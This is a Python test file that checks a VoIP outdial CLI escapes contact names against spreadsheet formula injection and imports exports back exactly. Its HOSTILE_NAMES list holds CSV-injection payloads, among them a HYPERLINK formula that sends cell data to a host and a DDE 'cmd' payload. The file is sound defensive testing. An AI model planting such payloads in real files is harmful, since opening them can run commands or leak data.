"""``import`` and ``export`` with files as people and attackers have them (issue 25): real files,
the console script in a subprocess, the mock served over HTTP."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from voipbin_outdial import VoipbinClient
from voipbin_outdial.contacts import Rejected, read_contacts

from .conftest import cli
from .test_cli_import_export import ENV, new_outdial

# Names a spreadsheet would run (issue 25), and names that only look like an escape.
HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "%0A",
    "|pipe \\| and a backslash",
    "'=1",  # really starts with a quote
    "'plain",
    "''",
    "-1",  # a plain number stays as it is
]


def outdial_with_names(base_url: str, names: list[str]) -> str:
    outdial = new_outdial(base_url)
    with VoipbinClient(token="t", base_url=base_url) as client:
        for n, name in enumerate(names):
            client.outdialtargets.create(
                outdial,
                name=name,
                detail=name,
                data=f"row-{n}",
                destinations=[{"type": "tel", "target": f"+1201555{n:04d}"}],
            )
    return outdial


def names_in(base_url: str, outdial: str) -> dict[str, tuple[str, str]]:
    with VoipbinClient(token="t", base_url=base_url) as client:
        return {t.data: (t.name, t.detail) for t in client.outdialtargets.iter(outdial)}


def test_an_export_is_safe_to_open_and_imports_back_exactly(
    mock_server: str, tmp_path: Path
) -> None:
    source = outdial_with_names(mock_server, HOSTILE_NAMES)
    export = cli("export", "--outdial", source, "--base-url", mock_server, env=ENV)
    assert export.returncode == 0, export.stderr

    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    written = {r["data"]: r["name"] for r in rows}
    for n, name in enumerate(HOSTILE_NAMES):
        cell = written[f"row-{n}"]
        if name == "-1":
            assert cell == "-1"
        else:  # text to a spreadsheet: its first character is the quote that says so
            assert cell.startswith("'"), cell

    exported = tmp_path / "export.csv"
    exported.write_text(export.stdout, encoding="utf-8")
    target = new_outdial(mock_server)
    imported = cli("import", str(exported), "--outdial", target, "--base-url", mock_server, env=ENV)
    assert imported.returncode == 0, imported.stderr
    assert names_in(mock_server, target) == names_in(mock_server, source)
    assert {name for name, _ in names_in(mock_server, target).values()} == set(HOSTILE_NAMES)


def test_a_file_the_tool_did_not_write_is_read_as_it_is(tmp_path: Path) -> None:
    """Only a file with the export's (or the rejects') header has its escapes taken off: in a
    list written by hand, a name that starts with a quote keeps it."""
    source = tmp_path / "in.csv"
    source.write_text("name,detail,data,destination_0\n'=1,'card,x,12345\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = cli("import", str(source), "--outdial", "x", "--dry-run", "--rejects", str(rejects))
    assert result.returncode == 1  # 12345 is no phone number: rejected, and written
    with rejects.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert (row["name"], row["detail"]) == ("''=1", "''card")  # escaped as an export is
    data = rejects.read_bytes()
    assert data.count(b"\n") == data.count(b"\r\n") == 2  # the export's line ends
    with rejects.open(newline="", encoding="utf-8") as f:  # and read back as it was
        (again,) = read_contacts(f)
    assert isinstance(again, Rejected)
    assert (again.cells["name"], again.cells["detail"]) == ("'=1", "'card")
